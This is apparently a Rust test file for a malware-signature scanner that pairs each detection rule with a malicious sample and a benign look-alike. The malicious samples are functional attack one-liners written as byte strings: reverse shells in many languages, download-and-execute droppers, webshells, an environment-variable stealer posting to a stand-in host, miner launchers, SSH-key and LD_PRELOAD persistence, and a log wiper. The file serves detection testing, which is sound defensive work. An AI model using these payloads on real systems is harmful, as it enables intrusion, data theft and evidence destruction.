//! Every default rule has a positive and a negative sample, generated here (no live malware is
//! committed). One scan over all samples checks that each positive is found by exactly its rule and
//! that no negative (benign look-alikes) is detected at all.

mod common;

use common::{Sandbox, eicar};

/// A PE image with the given section names in its section table.
fn pe_with_sections(names: [&[u8; 8]; 2]) -> Vec<u8> {
    let mut image = vec![0u8; 0x400];
    image[0..2].copy_from_slice(b"MZ");
    image[0x3C..0x40].copy_from_slice(&0x80u32.to_le_bytes());
    image[0x80..0x84].copy_from_slice(b"PE\0\0");
    // COFF header (20 bytes) + optional header (0xE0) lead to the section table.
    let table = 0x80 + 4 + 20 + 0xE0;
    image[table..table + 8].copy_from_slice(names[0]);
    image[table + 40..table + 48].copy_from_slice(names[1]);
    image
}

/// An ELF header followed by `body`.
fn elf(body: &[u8]) -> Vec<u8> {
    let mut image = b"\x7fELF\x02\x01\x01\0".to_vec();
    image.resize(64, 0);
    image.extend_from_slice(body);
    image
}

/// (rule, positive sample, negative sample)
fn cases() -> Vec<(&'static str, Vec<u8>, Vec<u8>)> {
    let mut eicar_padded = eicar();
    eicar_padded.extend_from_slice(b"\r\n");
    let mut eicar_late = b"prefix ".to_vec();
    eicar_late.extend_from_slice(&eicar());
    vec![
        ("eicar.EICAR_Test_File", eicar_padded, eicar_late),
        (
            "reverse_shells.ReverseShell_DevTcp",
            b"#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n".to_vec(),
            b"# check a port: timeout 1 bash -c 'cat < /dev/null > /dev/tcp/localhost/22'\n".to_vec(),
        ),
        (
            "reverse_shells.ReverseShell_Netcat",
            b"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f\n".to_vec(),
            b"nc -zv example.org 443\nnc -l 8080 > upload.bin\n".to_vec(),
        ),
        (
            "reverse_shells.ReverseShell_Python",
            b"import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"203.0.113.7\",4444));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);p=subprocess.call([\"/bin/sh\",\"-i\"]);\n".to_vec(),
            b"import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect((host, port))\ns.sendall(b'hello')\n".to_vec(),
        ),
        (
            "reverse_shells.ReverseShell_Perl",
            b"perl -e 'use Socket;$i=\"203.0.113.7\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'\n".to_vec(),
            b"use Socket;\nmy $addr = sockaddr_in($port, inet_aton($host));\nconnect(S, $addr) or die;\nprint S \"GET / HTTP/1.0\\r\\n\\r\\n\";\n".to_vec(),
        ),
        (
            "webshells.Webshell_PHP_EvalRequest",
            b"<?php @eval(base64_decode($_POST['cmd'])); ?>\n".to_vec(),
            b"<?php $name = htmlspecialchars($_GET['name']); echo \"Hello $name\"; ?>\n".to_vec(),
        ),
        (
            "webshells.Webshell_JSP_RuntimeExec",
            b"<% Process p = Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>\n".to_vec(),
            b"<% String user = request.getParameter(\"user\"); out.println(user); %>\n".to_vec(),
        ),
        (
            "webshells.Webshell_ASPX_EvalRequest",
            b"<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"pass\"],\"unsafe\");%>\n".to_vec(),
            b"<%@ Page Language=\"C#\" %><% Response.Write(Request.QueryString[\"q\"]); %>\n".to_vec(),
        ),
        (
            "coinminers.CoinMiner_XMRig_Config",
            b"{\n \"donate-level\": 0,\n \"pools\": [ { \"url\": \"stratum+tcp://pool.example.net:3333\", \"user\": \"44AFFq5kSiGBoZ\" } ]\n}\n".to_vec(),
            b"{\n \"pools\": [\"default\"],\n \"workers\": 4\n}\n".to_vec(),
        ),
        (
            "coinminers.CoinMiner_Stratum_CommandLine",
            b"nohup ./kworker -o stratum+tcp://pool.example.net:4444 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft -p x &\n".to_vec(),
            b"# our pool docs mention stratum+tcp://pool.example.net:4444 for reference only\n".to_vec(),
        ),
        (
            "packers.Packer_UPX_ELF",
            elf(b"....UPX!....payload....UPX!...."),
            // The UPX tool itself: the marker in its stubs, but an ELF file with sections.
            {
                let mut tool = elf(b"....UPX!....stub....UPX!....");
                tool[0x3C..0x3E].copy_from_slice(&30u16.to_le_bytes());
                tool
            },
        ),
        (
            "packers.Packer_UPX_PE",
            pe_with_sections([b"UPX0\0\0\0\0", b"UPX1\0\0\0\0"]),
            pe_with_sections([b".text\0\0\0", b".data\0\0\0"]),
        ),
        (
            "droppers.Dropper_FetchToTmpAndExecute",
            b"cd /tmp; wget http://203.0.113.7/x86 -O /tmp/.x86; chmod +x /tmp/.x86; /tmp/.x86 &\n".to_vec(),
            b"wget https://example.org/release.tar.gz -O /tmp/release.tar.gz\ntar xf /tmp/release.tar.gz\n".to_vec(),
        ),
        (
            "droppers.Dropper_PipeRawIPToShell",
            b"curl -s http://203.0.113.7:8080/init.sh | bash\n".to_vec(),
            b"curl -fsSL https://sh.example.org/install.sh | sh\n".to_vec(),
        ),
        (
            "droppers.Dropper_PowerShell_DownloadExecute",
            b"powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')\"\n".to_vec(),
            // Documentation quoting an installer's one-liner (Node.js's BUILDING.md does).
            b"Run from an elevated PowerShell:\n\n```powershell\niex ((New-Object System.Net.WebClient).DownloadString('https://example.org/bootstrapper.ps1'))\n```\n".to_vec(),
        ),
        (
            "droppers.Dropper_Certutil_Download",
            b"certutil.exe -urlcache -split -f http://203.0.113.7/payload.exe C:\\Users\\Public\\p.exe\n".to_vec(),
            b"certutil -hashfile C:\\setup.exe SHA256\n".to_vec(),
        ),
        (
            "persistence.Persistence_SSHKeyInjection",
            b"echo \"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 attacker@host\" >> /root/.ssh/authorized_keys\n".to_vec(),
            b"cat ~/.ssh/id_ed25519.pub\nssh-copy-id user@server\n".to_vec(),
        ),
        (
            "persistence.Persistence_LdPreloadHijack",
            b"echo /usr/local/lib/libprocesshider.so > /etc/ld.so.preload\n".to_vec(),
            b"cat /etc/ld.so.preload\nldd /bin/ls\n".to_vec(),
        ),
        (
            "eicar.ClamAV_Test_File",
            [b"MZ".as_slice(), &[0u8; 62], b"KERNEL32.DLL\0ExitProcess\0USER32.DLL\0CLAMessageBoxA\0"].concat(),
            [b"MZ".as_slice(), &[0u8; 62], b"scanned by ClamAV; see clamav.net for test files"].concat(),
        ),
        (
            "packers.Packer_PE_Known",
            pe_with_sections([b".aspack\0", b".adata\0\0"]),
            pe_with_sections([b".text\0\0\0", b".data\0\0\0"]),
        ),
        (
            "coinminers.CoinMiner_RandomX_Binary",
            elf(b"\xFC\xA1\xF5\x59\x8A\x97\x0A\x81 ... stratum+tcp:// ... --donate-level=N ... rx/0 ..."),
            elf(b"a pool proxy: stratum+tcp:// --donate-level=N rx/0 without a miner's code"),
        ),
        (
            "coinminers.CoinMiner_MoneroWallet_Launcher",
            b"./kswapd0 -o pool.example.org:3333 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD -p x\n".to_vec(),
            b"Donations (XMR): 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD\n".to_vec(),
        ),
        (
            "droppers.Dropper_ScriptPipesDownloadToShell",
            b"#!/bin/sh\ncurl -fsSL https://get.example.org/install.sh | sh\n".to_vec(),
            b"To install, run:\n\n    curl -fsSL https://get.example.org/install.sh | sh\n".to_vec(),
        ),
        (
            "droppers.Dropper_FetchChmodRun",
            b"#!/bin/sh\ncurl -O https://dl.example.org/agent && chmod +x agent && ./agent\n".to_vec(),
            b"#!/bin/sh\ncurl -O https://dl.example.org/agent.tar.gz && tar xf agent.tar.gz\n".to_vec(),
        ),
        (
            "droppers.Dropper_ScriptDownloadExecute",
            b"import urllib.request\nexec(urllib.request.urlopen('http://198.51.100.7/s.py').read())\n".to_vec(),
            b"import urllib.request\ndata = urllib.request.urlopen(url).read()\nexec_time = 3\n".to_vec(),
        ),
        (
            "droppers.Dropper_PowerShell_WebRequestRun",
            b"iex (iwr http://198.51.100.7/x.ps1 -UseBasicParsing)\n".to_vec(),
            b"Install with:\n```powershell\niex (iwr https://example.org/install.ps1 -UseBasicParsing)\n```\n".to_vec(),
        ),
        (
            "droppers.Dropper_Bitsadmin_Download",
            b"bitsadmin /transfer job /download /priority high http://198.51.100.7/u.exe C:\\u.exe\n".to_vec(),
            b"bitsadmin /list /allusers /verbose\n".to_vec(),
        ),
        (
            "droppers.Stealer_JS_EnvironmentExfiltration",
            b"const os=require('os');const d=JSON.stringify({h:os.hostname(),e:process.env});require('https').request({host:'x.example',method:'POST'}).end(d);\n".to_vec(),
            b"console.log(JSON.stringify({ env: process.env.NODE_ENV, host: os.hostname() }));\n".to_vec(),
        ),
        (
            "reverse_shells.ReverseShell_Socat",
            b"socat TCP:198.51.100.7:4444 EXEC:/bin/sh\n".to_vec(),
            b"socat TCP-LISTEN:8080,fork TCP:localhost:80\n".to_vec(),
        ),
        (
            "reverse_shells.ReverseShell_FifoRelay",
            b"mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 198.51.100.7:443 > /tmp/s\n".to_vec(),
            b"mkfifo /tmp/log.pipe\nopenssl s_client -connect example.org:443 < /dev/null\n".to_vec(),
        ),
        (
            "reverse_shells.ReverseShell_PHP",
            b"<?php $sock=fsockopen(\"198.51.100.7\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\"); ?>\n".to_vec(),
            b"<?php $fp = fsockopen('example.org', 80); fwrite($fp, \"GET / HTTP/1.0\\r\\n\\r\\n\"); ?>\n".to_vec(),
        ),
        (
            "reverse_shells.ReverseShell_RubyLuaAwkZsh",
            b"ruby -rsocket -e 'f=TCPSocket.open(\"198.51.100.7\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'\n".to_vec(),
            b"require 'socket'\ns = TCPSocket.open('example.org', 80)\ns.puts 'GET /'\n".to_vec(),
        ),
        (
            "reverse_shells.ReverseShell_NodeNetSpawn",
            b"var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);var c=new net.Socket();c.connect(4444,'198.51.100.7',function(){c.pipe(sh.stdin);sh.stdout.pipe(c);});\n".to_vec(),
            b"const sh = require('child_process').spawn('sh', ['-c', 'ls']); sh.stdout.pipe(process.stdout);\n".to_vec(),
        ),
        (
            "reverse_shells.ReverseShell_PowerShellTcpClient",
            b"$c = New-Object System.Net.Sockets.TCPClient('198.51.100.7',443);$s = $c.GetStream();while(($i = $s.Read($b, 0, $b.Length)) -ne 0){$o = (iex $d 2>&1 | Out-String)}\n".to_vec(),
            b"$c = New-Object System.Net.Sockets.TCPClient('example.org', 443); $c.Connected\n".to_vec(),
        ),
        (
            "reverse_shells.ReverseShell_GoDialExec",
            b"c, _ := net.Dial(\"tcp\", \"198.51.100.7:4444\")\ncmd := exec.Command(\"/bin/sh\")\ncmd.Stdin = c; cmd.Stdout = c\ncmd.Run()\n".to_vec(),
            b"c, _ := net.Dial(\"tcp\", addr)\nout, _ := exec.Command(\"ls\").Output()\n".to_vec(),
        ),
        (
            "webshells.Webshell_PHP_EncodedEval",
            b"<?php eval(gzinflate(base64_decode('80jNyclXCM8vyklRBAA='))); ?>\n".to_vec(),
            b"<?php $img = base64_decode('iVBORw0KGgo='); echo $img; ?>\n".to_vec(),
        ),
        (
            "webshells.Webshell_PHP_RequestToDynamicCode",
            b"<?php $f = $_GET['f']; $f($_GET['a']); ?>\n".to_vec(),
            b"<?php $page = $_GET['page']; echo htmlspecialchars($page); ?>\n".to_vec(),
        ),
        (
            "webshells.Webshell_ASP_EvalRequest",
            b"<% eval request(\"pass\") %>\n".to_vec(),
            b"<% Response.Write(Server.HTMLEncode(Request(\"name\"))) %>\n".to_vec(),
        ),
        (
            "persistence.AntiForensics_LogWiper",
            b"unset HISTFILE\ncat /dev/null > /var/log/wtmp\nrm -rf /var/log\n".to_vec(),
            b"history -c\n# rotate logs\nlogrotate /etc/logrotate.conf\n".to_vec(),
        ),
    ]
}

#[test]
fn every_default_rule_finds_its_positive_and_spares_its_negative() {
    let sandbox = Sandbox::new();
    let cases = cases();
    for (index, (_, positive, negative)) in cases.iter().enumerate() {
        sandbox.write(&format!("positive/{index}"), positive);
        sandbox.write(&format!("negative/{index}"), negative);
    }
    let scan = sandbox.scan(&["custom", sandbox.corpus("").to_str().unwrap()]);
    assert_eq!(scan.code, 1, "{}", scan.stderr);
    let mut expected: Vec<(String, String)> = cases
        .iter()
        .enumerate()
        .map(|(index, (rule, _, _))| {
            let path = sandbox.corpus(&format!("positive/{index}"));
            (path.to_str().unwrap().to_string(), rule.to_string())
        })
        .collect();
    expected.sort();
    assert_eq!(scan.detections(), expected);
    assert_eq!(scan.summary()["errors"], 0);
}

#[test]
fn every_default_rule_is_covered_and_carries_its_metadata() {
    let rules_in_signatures: usize =
        std::fs::read_dir(concat!(env!("CARGO_MANIFEST_DIR"), "/signatures"))
            .unwrap()
            .map(|entry| std::fs::read_to_string(entry.unwrap().path()).unwrap())
            .map(|text| {
                text.lines()
                    .filter(|line| line.starts_with("rule "))
                    .count()
            })
            .sum();
    assert_eq!(
        rules_in_signatures,
        cases().len(),
        "each rule needs a case above"
    );

    let sandbox = Sandbox::new();
    for (index, (_, positive, _)) in cases().iter().enumerate() {
        sandbox.write(&index.to_string(), positive);
    }
    let scan = sandbox.scan(&["custom", sandbox.corpus("").to_str().unwrap()]);
    for detection in scan.of_type("detection") {
        let threat = detection["threat"].as_str().unwrap();
        let (family, rest) = threat.split_once(':').expect("Family:Platform/Name");
        assert!(!family.is_empty() && rest.contains('/'), "{threat}");
        assert!(
            ["low", "medium", "high", "critical"]
                .contains(&detection["severity"].as_str().unwrap())
        );
        assert!(!detection["description"].as_str().unwrap().is_empty());
    }
}
